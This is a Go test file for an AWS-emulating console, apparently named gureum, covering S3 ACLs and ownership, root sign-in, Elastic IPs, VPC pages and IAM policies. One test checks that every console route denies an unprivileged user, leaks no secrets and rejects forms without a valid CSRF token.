	_, body := b.get("/_console/s3/bucket/owned/permissions")
	wantIn(t, "permissions", body, `id="ownership">Bucket owner enforced (ACLs disabled)`, "FULL_CONTROL")
	_, body = b.post("/_console/s3/bucket/owned/ownership", url.Values{"ownership": {"ObjectWriter"}})
	wantIn(t, "no acknowledgement", body, "acknowledge that ACLs will be restored", `id="ownership">Bucket owner enforced`)
	_, body = b.post("/_console/s3/bucket/owned/ownership", url.Values{"ownership": {"ObjectWriter"}, "acknowledge": {"on"}})
	wantIn(t, "ACLs enabled", body, "Successfully edited Object Ownership.", `id="ownership">Object writer (ACLs enabled)`)
	oc, err := e.S3.GetBucketOwnershipControls(ctx(), &s3.GetBucketOwnershipControlsInput{Bucket: aws.String("owned")})
	if err != nil || oc.OwnershipControls.Rules[0].ObjectOwnership != "ObjectWriter" {
		t.Fatalf("API: %+v %v", oc, err)
	}
	// The ACL editor: Everyone needs the acknowledgement; Block Public
	// Access refuses it with S3's error; once off, anyone may list.
	anonList := func() int {
		code, _ := e.anonGet("/owned?list-type=2")
		return code
	}
	_, body = b.post("/_console/s3/bucket/owned/acl", url.Values{"acl": {"public-read"}})
	wantIn(t, "no acknowledgement", body, "acknowledge that you understand the effects")
	_, body = b.post("/_console/s3/bucket/owned/acl", url.Values{"acl": {"public-read"}, "acknowledge_acl": {"on"}})
	wantIn(t, "Block Public Access", body, "AccessDenied")
	if c := anonList(); c != 403 {
		t.Fatalf("anonymous list with a refused ACL: %d", c)
	}
	b.post("/_console/s3/bucket/owned/bpa", url.Values{"acknowledge": {"on"}})
	_, body = b.post("/_console/s3/bucket/owned/acl", url.Values{"acl": {"public-read"}, "acknowledge_acl": {"on"}})
	wantIn(t, "public-read", body, "Successfully edited the access control list.", "Everyone (public access)")
	if c := anonList(); c != 200 {
		t.Fatalf("anonymous list with a public-read ACL: %d", c)
	}
	_, body = b.get("/_console/s3")
	wantIn(t, "bucket list", body, "⚠ Public")
	_, body = b.post("/_console/s3/bucket/owned/acl", url.Values{"acl": {"private"}})
	wantIn(t, "private", body, "Successfully edited the access control list.")
	if c := anonList(); c != 403 {
		t.Fatalf("anonymous list with a private ACL: %d", c)
	}
}

// TestConsoleRootPasswordAndNetworkPages: the root user signs in with the
// password gureum was started with; Elastic IPs are allocated, associated
// with an instance, disassociated and released; the instance's connect
// instructions; the VPC page's subnets and network ACLs; an access key's
// last use.
func TestConsoleRootPasswordAndNetworkPages(t *testing.T) {
	e := newEnvWith(t, server.Config{RootPassword: "Root-pass-1"})
	b := e.browser()
	_, body := b.get("/_console/signin")
	wantIn(t, "sign-in page", body, "Root user password")
	for _, f := range []url.Values{
		{"kind": {"root-password"}, "account": {"000000000000"}, "password": {"wrong"}},
		{"kind": {"root-password"}, "account": {"999999999999"}, "password": {"Root-pass-1"}},
	} {
		if code, _ := b.post("/_console/signin", f); code != 401 {
			t.Fatalf("%v: %d", f, code)
		}
	}
	code, body := b.post("/_console/signin", url.Values{"kind": {"root-password"}, "account": {"000000000000"}, "password": {"Root-pass-1"}})
	if code != 200 {
		t.Fatalf("root password sign-in: %d\n%s", code, body)
	}
	wantIn(t, "signed in", body, "arn:aws:iam::000000000000:root", "General purpose buckets")
	if code, _ := e.browser().post("/_console/signin", url.Values{"kind": {"root-password"}, "account": {"111111111111"}, "password": {"Root-pass-1"}}); code != 200 {
		t.Fatalf("the other account's root: %d", code)
	}
	// Without --root-password, no password opens a root session.
	plain := newEnv(t).browser()
	if code, _ := plain.post("/_console/signin", url.Values{"kind": {"root-password"}, "account": {"000000000000"}, "password": {""}}); code != 401 {
		t.Fatalf("an empty root password: %d", code)
	}

	c := e.ec2("test", "test")
	subnetID := subnetBehindIGW(t, c, "10.40.0.0/16", "10.40.1.0/24")
	subs, err := c.DescribeSubnets(ctx(), &ec2.DescribeSubnetsInput{SubnetIds: []string{subnetID}})
	if err != nil {
		t.Fatal(err)
	}
	vpcID := *subs.Subnets[0].VpcId
	imgs, err := c.DescribeImages(ctx(), &ec2.DescribeImagesInput{})
	if err != nil || len(imgs.Images) == 0 {
		t.Fatalf("images: %v", err)
	}
	if _, err := c.CreateKeyPair(ctx(), &ec2.CreateKeyPairInput{KeyName: aws.String("laptop")}); err != nil {
		t.Fatal(err)
	}
	run, err := c.RunInstances(ctx(), &ec2.RunInstancesInput{ImageId: imgs.Images[0].ImageId, InstanceType: "t3.micro", MinCount: aws.Int32(1), MaxCount: aws.Int32(1),
		SubnetId: aws.String(subnetID), KeyName: aws.String("laptop")})
	if err != nil {
		t.Fatal(err)
	}
	id := *run.Instances[0].InstanceId
	waitRunning(t, c, id)

	_, body = b.get("/_console/ec2/addresses")
	wantIn(t, "no addresses", body, "No Elastic IP addresses.")
	_, body = b.post("/_console/ec2/addresses/allocate", url.Values{})
	wantIn(t, "allocate", body, "Elastic IP address allocated successfully: ")
	alloc := regexp.MustCompile(`data-id="(eipalloc-[0-9a-f]+)"`).FindStringSubmatch(body)
	if alloc == nil {
		t.Fatalf("no allocation:\n%s", body)
	}
	wantIn(t, "associate form", body, `<option value="`+id+`">`)
	_, body = b.post("/_console/ec2/addresses/"+alloc[1]+"/associate", url.Values{"instance": {id}})
	wantIn(t, "associate", body, "associated with "+id)
	addr, err := c.DescribeAddresses(ctx(), &ec2.DescribeAddressesInput{AllocationIds: []string{alloc[1]}})
	if err != nil || aws.ToString(addr.Addresses[0].InstanceId) != id {
		t.Fatalf("the address: %+v %v", addr, err)
	}
	ip := aws.ToString(addr.Addresses[0].PublicIp)
	_, body = b.get("/_console/ec2/instances/" + id + "/connect")
	wantIn(t, "connect", body, `ssh -i "laptop.pem" ec2-user@`, "gureum ssh "+id, "chmod 400")
	if inst := describeOne(t, c, id); aws.ToString(inst.PublicIpAddress) != ip {
		t.Fatalf("the instance's public IP %s, the address %s", aws.ToString(inst.PublicIpAddress), ip)
	}
	_, body = b.post("/_console/ec2/addresses/"+alloc[1]+"/disassociate", url.Values{"association": {aws.ToString(addr.Addresses[0].AssociationId)}})
	wantIn(t, "disassociate", body, "disassociated")
	_, body = b.post("/_console/ec2/addresses/"+alloc[1]+"/release", url.Values{})
	wantIn(t, "release", body, "released", "No Elastic IP addresses.")
	// Releasing again: EC2's error.
	_, body = b.post("/_console/ec2/addresses/"+alloc[1]+"/release", url.Values{})
	wantIn(t, "release twice", body, "InvalidAllocationID.NotFound")

	_, body = b.get("/_console/vpc/" + vpcID)
	wantIn(t, "VPC page", body, `id="subnets"`, subnetID, "10.40.1.0/24", `id="network-acls"`,
		"100 Allow all traffic 0.0.0.0/0", "* Deny all traffic 0.0.0.0/0")

	// An access key's last use.
	root := e.rootIAM()
	if _, err := root.CreateUser(ctx(), &iam.CreateUserInput{UserName: aws.String("dev")}); err != nil {
		t.Fatal(err)
	}
	k, err := root.CreateAccessKey(ctx(), &iam.CreateAccessKeyInput{UserName: aws.String("dev")})
	if err != nil {
		t.Fatal(err)
	}
	_, body = b.get("/_console/iam/users/dev")
	wantIn(t, "never used", body, `class="last-used">Never<`)
	if _, err := e.sts(*k.AccessKey.AccessKeyId, *k.AccessKey.SecretAccessKey, "").GetCallerIdentity(ctx(), nil); err != nil {
		t.Fatal(err)
	}
	_, body = b.get("/_console/iam/users/dev")
	wantIn(t, "used", body, " · sts · us-east-1<")

	// Its permissions: an inline policy (a mistake gets IAM's message),
	// a managed one attached and detached.
	dev := e.s3As(*k.AccessKey.AccessKeyId, *k.AccessKey.SecretAccessKey, "")
	if _, err := dev.ListBuckets(ctx(), &s3.ListBucketsInput{}); err == nil {
		t.Fatal("dev lists buckets without a policy")
	}
	_, body = b.post("/_console/iam/users/dev/inline", url.Values{"name": {"list"}, "document": {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:ListAllMyBuckets"}]}`}})
	wantIn(t, "bad inline policy", body, "MalformedPolicyDocument")
	_, body = b.post("/_console/iam/users/dev/inline", url.Values{"name": {"list"}, "document": {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:ListAllMyBuckets","Resource":"*"}]}`}})
	wantIn(t, "inline policy", body, "Inline policy list saved.", "Customer inline", `&#34;Action&#34;: &#34;s3:ListAllMyBuckets&#34;`)
	if _, err := dev.ListBuckets(ctx(), &s3.ListBucketsInput{}); err != nil {
		t.Fatalf("dev with the inline policy: %v", err)
	}
	_, body = b.post("/_console/iam/users/dev/inline/list/delete", url.Values{})
	wantIn(t, "remove inline", body, "Inline policy list deleted.", "No policies: this user may do nothing.")
	_, body = b.post("/_console/iam/users/dev/attach", url.Values{"policy_arn": {"arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"}})
	wantIn(t, "attach", body, "Policy attached.", "AmazonS3ReadOnlyAccess", "Managed")
	if _, err := dev.ListBuckets(ctx(), &s3.ListBucketsInput{}); err != nil {
		t.Fatalf("dev with AmazonS3ReadOnlyAccess: %v", err)
	}
	_, body = b.post("/_console/iam/users/dev/detach", url.Values{"policy_arn": {"arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"}})
	wantIn(t, "detach", body, "Policy detached.", "No policies")
}

// TestConsoleEveryHandlerDenies goes through every page and form the
// console registers (console.Routes), as an IAM user without any policy:
// each page is the denial page with AWS's message and none of the data,
// each form is refused with AccessDenied, and afterwards nothing in the
// account has changed. A route added without a way to fill its path here
// fails the test, so that no handler goes untested.
func TestConsoleEveryHandlerDenies(t *testing.T) {
	e := newEnv(t)
	c := e.ec2("test", "test")
	root := e.rootIAM()
	e.bucket("private-stuff")
	e.put("private-stuff", "secret-plans.txt", "the plans")
	if _, err := root.CreateUser(ctx(), &iam.CreateUserInput{UserName: aws.String("hidden-user")}); err != nil {
		t.Fatal(err)
	}
	key, err := root.CreateAccessKey(ctx(), &iam.CreateAccessKeyInput{UserName: aws.String("hidden-user")})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []func() error{
		func() error {
			_, err := root.CreateGroup(ctx(), &iam.CreateGroupInput{GroupName: aws.String("hidden-group")})
			return err
		},
		func() error {
			_, err := root.PutUserPolicy(ctx(), &iam.PutUserPolicyInput{UserName: aws.String("hidden-user"), PolicyName: aws.String("hidden-inline"),
				PolicyDocument: aws.String(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::hidden-inline-doc/*"}]}`)})
			return err
		},
		func() error {
			_, err := root.CreateRole(ctx(), &iam.CreateRoleInput{RoleName: aws.String("hidden-role"),
				AssumeRolePolicyDocument: aws.String(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}`)})
			return err
		},
		func() error {
			_, err := root.CreatePolicy(ctx(), &iam.CreatePolicyInput{PolicyName: aws.String("hidden-policy"),
				PolicyDocument: aws.String(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:*","Resource":"*"}]}`)})
			return err
		},
		func() error {
			_, err := root.CreateUser(ctx(), &iam.CreateUserInput{UserName: aws.String("nobody")})
			return err
		},
		func() error {
			_, err := root.CreateLoginProfile(ctx(), &iam.CreateLoginProfileInput{UserName: aws.String("nobody"), Password: aws.String("Nobody-pass1")})
			return err
		},
	} {
		if err := f(); err != nil {
			t.Fatal(err)
		}
	}
	vpc, err := c.CreateVpc(ctx(), &ec2.CreateVpcInput{CidrBlock: aws.String("10.77.0.0/16")})
	if err != nil {
		t.Fatal(err)
	}
	vpcID := *vpc.Vpc.VpcId
	subnet, err := c.CreateSubnet(ctx(), &ec2.CreateSubnetInput{VpcId: aws.String(vpcID), CidrBlock: aws.String("10.77.1.0/24")})
	if err != nil {
		t.Fatal(err)
	}
	sg, err := c.CreateSecurityGroup(ctx(), &ec2.CreateSecurityGroupInput{GroupName: aws.String("hidden-sg"), Description: aws.String("hidden-sg-desc"), VpcId: aws.String(vpcID)})
	if err != nil {
		t.Fatal(err)
	}
	rules, err := c.AuthorizeSecurityGroupIngress(ctx(), &ec2.AuthorizeSecurityGroupIngressInput{GroupId: sg.GroupId, IpProtocol: aws.String("tcp"),
		FromPort: aws.Int32(22), ToPort: aws.Int32(22), CidrIp: aws.String("192.0.2.0/24")})
	if err != nil {
		t.Fatal(err)
	}
	kp, err := c.CreateKeyPair(ctx(), &ec2.CreateKeyPairInput{KeyName: aws.String("hidden-kp")})
	if err != nil {
		t.Fatal(err)
	}
	imgs, err := c.DescribeImages(ctx(), &ec2.DescribeImagesInput{})
	if err != nil || len(imgs.Images) == 0 {
		t.Fatalf("images: %v", err)
	}
	run, err := c.RunInstances(ctx(), &ec2.RunInstancesInput{ImageId: imgs.Images[0].ImageId, InstanceType: "t3.micro", MinCount: aws.Int32(1), MaxCount: aws.Int32(1),
		SubnetId: subnet.Subnet.SubnetId, SecurityGroupIds: []string{*sg.GroupId}})
	if err != nil {
		t.Fatal(err)
	}
	inst := *run.Instances[0].InstanceId
	waitRunning(t, c, inst)
	img, err := c.CreateImage(ctx(), &ec2.CreateImageInput{InstanceId: aws.String(inst), Name: aws.String("hidden-image")})
	if err != nil {
		t.Fatal(err)
	}
	eip, err := c.AllocateAddress(ctx(), &ec2.AllocateAddressInput{Domain: ec2types.DomainTypeVpc})
	if err != nil {
		t.Fatal(err)
	}

	// The account, as the root sees it through the API.
	state := func() string {
		var b strings.Builder
		add := func(what string, v any, err error) {
			var ae smithy.APIError
			if errors.As(err, &ae) {
				err = errors.New(ae.ErrorCode())
			}
			fmt.Fprintf(&b, "%s: %v %v\n", what, v, err)
		}
		bs, err := e.S3.ListBuckets(ctx(), &s3.ListBucketsInput{})
		add("buckets", len(bs.Buckets), err)
		objs, err := e.S3.ListObjectsV2(ctx(), &s3.ListObjectsV2Input{Bucket: aws.String("private-stuff")})
		add("objects", aws.ToInt32(objs.KeyCount), err)
		_, err = e.S3.GetBucketPolicy(ctx(), &s3.GetBucketPolicyInput{Bucket: aws.String("private-stuff")})
		add("policy", "", err)
		pab, err := e.S3.GetPublicAccessBlock(ctx(), &s3.GetPublicAccessBlockInput{Bucket: aws.String("private-stuff")})
		if err == nil {
			add("bpa", *pab.PublicAccessBlockConfiguration.BlockPublicPolicy, nil)
		}
		own, err := e.S3.GetBucketOwnershipControls(ctx(), &s3.GetBucketOwnershipControlsInput{Bucket: aws.String("private-stuff")})
		if err == nil {
			add("ownership", own.OwnershipControls.Rules[0].ObjectOwnership, nil)
		}
		us, err := root.ListUsers(ctx(), &iam.ListUsersInput{})
		add("users", len(us.Users), err)
		ks, err := root.ListAccessKeys(ctx(), &iam.ListAccessKeysInput{UserName: aws.String("hidden-user")})
		for _, k := range ks.AccessKeyMetadata {
			add("key", k.Status, err)
		}
		add("keys", len(ks.AccessKeyMetadata), err)
		_, err = root.GetLoginProfile(ctx(), &iam.GetLoginProfileInput{UserName: aws.String("hidden-user")})
		add("login profile", "", err)
		ap, err := root.ListAttachedUserPolicies(ctx(), &iam.ListAttachedUserPoliciesInput{UserName: aws.String("hidden-user")})
		add("attached", len(ap.AttachedPolicies), err)
		ip, err := root.ListUserPolicies(ctx(), &iam.ListUserPoliciesInput{UserName: aws.String("hidden-user")})
		add("inline", ip.PolicyNames, err)
		gs, err := root.ListGroups(ctx(), &iam.ListGroupsInput{})
		add("groups", len(gs.Groups), err)
		gu, err := root.GetGroup(ctx(), &iam.GetGroupInput{GroupName: aws.String("hidden-group")})
		add("group users", len(gu.Users), err)
		rs, err := root.ListRoles(ctx(), &iam.ListRolesInput{})
		add("roles", len(rs.Roles), err)
		ps, err := root.ListPolicies(ctx(), &iam.ListPoliciesInput{Scope: iamtypes.PolicyScopeTypeLocal})
		add("policies", len(ps.Policies), err)
		vs, err := c.DescribeVpcs(ctx(), &ec2.DescribeVpcsInput{})
		add("vpcs", len(vs.Vpcs), err)
		sgs, err := c.DescribeSecurityGroups(ctx(), &ec2.DescribeSecurityGroupsInput{})
		add("security groups", len(sgs.SecurityGroups), err)
		sr, err := c.DescribeSecurityGroupRules(ctx(), &ec2.DescribeSecurityGroupRulesInput{})
		add("rules", len(sr.SecurityGroupRules), err)
		in, err := c.DescribeInstances(ctx(), &ec2.DescribeInstancesInput{})
		for _, r := range in.Reservations {
			for _, i := range r.Instances {
				add("instance", i.State.Name, err)
			}
		}
		kps, err := c.DescribeKeyPairs(ctx(), &ec2.DescribeKeyPairsInput{})
		add("key pairs", len(kps.KeyPairs), err)
		is, err := c.DescribeImages(ctx(), &ec2.DescribeImagesInput{Owners: []string{"self"}})
		add("images", len(is.Images), err)
		as, err := c.DescribeAddresses(ctx(), &ec2.DescribeAddressesInput{})
		for _, a := range as.Addresses {
			add("address", aws.ToString(a.AssociationId), err)
		}
		add("addresses", len(as.Addresses), err)
		acl, err := e.S3.GetBucketAcl(ctx(), &s3.GetBucketAclInput{Bucket: aws.String("private-stuff")})
		add("bucket acl grants", len(acl.Grants), err)
		return b.String()
	}
	before := state()

	n := e.browser()
	if code, _ := n.post("/_console/signin", url.Values{"kind": {"iam"}, "account": {"000000000000"}, "user": {"nobody"}, "password": {"Nobody-pass1"}, "csrf": {""}}); code != 403 {
		t.Fatalf("sign-in: %d", code)
	}
	// What fills each path parameter, by the path before it.
	fill := func(pattern string) string {
		segs := strings.Split(strings.TrimPrefix(pattern, "/_console/"), "/")
		for i, s := range segs {
			if !strings.HasPrefix(s, "{") {
				continue
			}
			var v string
			switch prev := strings.Join(segs[:i], "/"); {
			case s == "{bucket}":
				v = "private-stuff"
			case s == "{key...}":
				v = "secret-plans.txt"
			case s == "{user}":
				v = "hidden-user"
			case s == "{policy}":
				v = "hidden-inline"
			case s == "{group}":
				v = "hidden-group"
			case s == "{name}" && prev == "ec2/keys":
				v = "hidden-kp"
			case s == "{sg}":
				v = *sg.GroupId
			case s == "{alloc}":
				v = *eip.AllocationId
			case s == "{action}":
				v = "stop"
			case s == "{id}" && prev == "ec2/instances":
				v = inst
			case s == "{id}" && prev == "ec2/images":
				v = *img.ImageId
			case s == "{id}" && prev == "vpc":
				v = vpcID
			case s == "{id}" && strings.HasSuffix(prev, "/keys"):
				v = *key.AccessKey.AccessKeyId
			default:
				t.Fatalf("%s: nothing fills %s; add it here", pattern, s)
			}
			segs[i] = v
		}
		return "/_console/" + strings.Join(segs, "/")
	}
	// Data the denied user must never see (none of it is in a path).
	secrets := []string{"the plans", "10.77.0.0/16", "10.77.1.0/24", "hidden-sg-desc", "192.0.2.0/24", "hidden-role", "hidden-policy",
		"hidden-image", "hidden-inline-doc", *eip.PublicIp, *kp.KeyFingerprint, *key.AccessKey.SecretAccessKey, *rules.SecurityGroupRules[0].SecurityGroupRuleId, "<table"}
	pub := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHlQ3SIaY1O8fWY8wK1xD4Y2WW4D9p0hN0Ue1C7bIB3Q nobody"
	form := url.Values{"name": {"nobodys-thing"}, "cidr": {"10.99.0.0/16"}, "azs": {"1"}, "nat": {"0"}, "confirm": {"private-stuff"}, "empty": {"on"},
		"key": {"secret-plans.txt"}, "acknowledge": {"on"}, "ownership": {"ObjectWriter"}, "password": {"Nobody-pass2"}, "status": {"Inactive"},
		"image_name": {"nobody-image"}, "policy_arn": {"arn:aws:iam::aws:policy/AdministratorAccess"}, "user": {"hidden-user"},
		"policy":      {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::private-stuff/*"}]}`},
		"document":    {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`},
		"trust":       {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}`},
		"description": {"x"}, "public_key": {pub}, "type": {"ed25519"}, "vpc": {vpcID}, "image": {*imgs.Images[0].ImageId},
		"subnet": {*subnet.Subnet.SubnetId}, "group": {*sg.GroupId}, "protocol": {"tcp"}, "ports": {"80"}, "direction": {"Inbound"},
		"rule": {*rules.SecurityGroupRules[0].SecurityGroupRuleId}, "region": {"us-east-1"}, "prefix": {""},
		"instance": {inst}, "association": {"eipassoc-0123456789abcdef0"}, "acl": {"public-read"}, "acknowledge_acl": {"on"}}
	query := "?principal=arn:aws:iam::000000000000:user/hidden-user&actions=s3:GetObject&resource=*&vpc=" + vpcID + "&presign=5"
	public := map[string]bool{"GET /_console/{$}": true, "GET /_console/signin": true, "POST /_console/signin": true, "POST /_console/signout": true}
	routes := console.New(console.Config{}).Routes()
	if len(routes) < 50 {
		t.Fatalf("only %d routes", len(routes))
	}
	for _, r := range routes {
		if public[r] {
			continue
		}
		method, pattern, _ := strings.Cut(r, " ")
		path := fill(pattern)
		var code int
		var body string
		switch {
		case strings.HasSuffix(pattern, "/csv") || strings.HasSuffix(pattern, "/pem"):
			// A secret a session keeps for its own download, once: never
			// another session's.
			if code, body = n.get(path); code != 410 {
				t.Fatalf("%s: %d\n%s", r, code, body)
			}
		case method == "GET":
			code, body = n.get(path + query)
			if code != 403 || !strings.Contains(body, `class="denied"`) || !strings.Contains(body, "is not authorized to perform") {
				t.Fatalf("%s: %d, not the denial page:\n%s", r, code, body)
			}
		case strings.HasSuffix(pattern, "/upload"):
			n.get("/_console/s3")
			code, body = n.upload(path, "", "secret-plans.txt", []byte("overwritten"))
		default:
			n.get("/_console/s3") // a page with the session's token
			code, body = n.post(path, form)
		}
		if code != 410 && !strings.Contains(body, "AccessDenied") && !strings.Contains(body, "UnauthorizedOperation") {
			t.Fatalf("%s: %d, no denial:\n%s", r, code, body)
		}
		for _, s := range secrets {
			if strings.Contains(body, s) {
				t.Fatalf("%s shows %q to a denied user:\n%s", r, s, body)
			}
		}
	}
	if after := state(); after != before {
		t.Fatalf("a denied user changed the account:\nbefore:\n%s\nafter:\n%s", before, after)
	}
	// Every form, sent by the root (who may do everything) without its
	// session's CSRF token or with another session's: refused, nothing
	// done.
	rb := e.browser()
	rb.signInRoot("test", "test")
	for _, r := range routes {
		method, pattern, _ := strings.Cut(r, " ")
		if method != "POST" || public[r] {
			continue
		}
		for _, token := range []string{"", n.csrf} {
			f := url.Values{}
			maps.Copy(f, form)
			f.Set("csrf", token)
			if code, body := rb.post(fill(pattern), f); code != 403 || !strings.Contains(body, "security token is missing or wrong") {
				t.Fatalf("%s with CSRF token %q: %d\n%s", r, token, code, body)
			}
		}
	}
	if after := state(); after != before {
		t.Fatalf("forms without the CSRF token changed the account:\nbefore:\n%s\nafter:\n%s", before, after)
	}
	if got := e.get("private-stuff", "secret-plans.txt"); got != "the plans" {
		t.Fatalf("the object: %q", got)
	}
}
